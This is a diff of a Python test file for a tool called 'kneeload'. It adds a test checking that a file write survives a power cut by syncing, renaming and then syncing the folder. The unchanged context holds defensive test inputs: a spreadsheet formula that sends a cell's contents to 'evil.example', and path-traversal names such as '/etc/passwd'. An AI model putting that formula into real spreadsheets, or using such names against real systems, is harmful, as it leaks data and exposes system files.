@@ -16,6 +16,7 @@ from kneeload.listing import list_runs, resolve_run
 from kneeload.private import UnwritableError, private_file
 from kneeload.review.page import write_review
 from tests.kneeload.program import PROGRAM, environment
+from tests.room import no_sync
 from tests.simulated_run import RUN, record_run, recorded_run
 
 FORMULA = '=HYPERLINK("http://evil.example/?"&A1)'
@@ -104,6 +105,37 @@ def test_what_fails_half_way_leaves_nothing(tmp_path: Path) -> None:
     for place in (tmp_path, tmp_path / "nowhere" / "page.html"):
         with pytest.raises(UnwritableError), private_file(place):
             pass
+
+
+@pytest.mark.skipif(not Path("/proc/self/fd").is_dir(), reason="needs /proc to see what is synced")
+def test_a_power_cut_leaves_the_file_of_before_or_all_of_the_new_one(
+    tmp_path: Path, monkeypatch: pytest.MonkeyPatch
+) -> None:
+    """A new name may be on disk before what is in the file, which is empty then."""
+    done: list[tuple[str, str]] = []
+    fsync, replace = os.fsync, os.replace
+
+    def synced(file: int) -> None:
+        fsync(file)
+        what = Path(os.readlink(f"/proc/self/fd/{file}"))
+        done.append(("sync", "folder" if what.is_dir() else what.read_text()))
+
+    def moved(source: Path, target: Path) -> None:
+        replace(source, target)
+        done.append(("move", target.name))
+
+    monkeypatch.setattr(os, "fsync", synced)
+    monkeypatch.setattr(os, "replace", moved)
+    with private_file(tmp_path / "page.html") as draft:
+        draft.write_text("page")
+    assert done == [("sync", "page"), ("move", "page.html"), ("sync", "folder")]
+    with (
+        no_sync(),
+        pytest.raises(UnwritableError, match="Input/output"),
+        private_file(tmp_path / "b") as draft,
+    ):
+        draft.write_text("page")
+    assert [path.name for path in tmp_path.iterdir()] == ["page.html"]
 
 
 @pytest.mark.parametrize("name", ["../../etc", "/etc/passwd", "..", f"{RUN}/../../x", "\x1b[2J", ""])
